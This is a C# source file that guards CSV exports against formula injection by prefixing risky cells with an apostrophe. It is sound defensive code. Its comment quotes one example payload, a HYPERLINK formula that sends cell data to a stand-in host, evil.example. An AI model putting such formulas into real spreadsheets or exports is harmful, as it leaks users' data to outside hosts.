using System.Globalization;

namespace Tagloop.Core.Export;

/// <summary>
/// CSV cells that a spreadsheet would run as a formula (text starting with <c>= + - @</c>, a tab or a carriage
/// return, such as <c>=HYPERLINK("http://evil.example?"&amp;A1)</c>) get a leading apostrophe, which Excel,
/// LibreOffice and Google Sheets show as text. Plain numbers such as <c>-3.5</c> cannot be formulas and stay as they
/// are. Exports for programs rather than spreadsheets can ask for raw cells instead.
/// </summary>
public static class SpreadsheetCell
{
    public static string Neutralized(string value)
    {
        ArgumentNullException.ThrowIfNull(value);
        if (value.Length == 0 || value[0] is not ('=' or '+' or '-' or '@' or '\t' or '\r'))
        {
            return value;
        }

        return double.TryParse(value, NumberStyles.Float, CultureInfo.InvariantCulture, out _) ? value : "'" + value;
    }
}
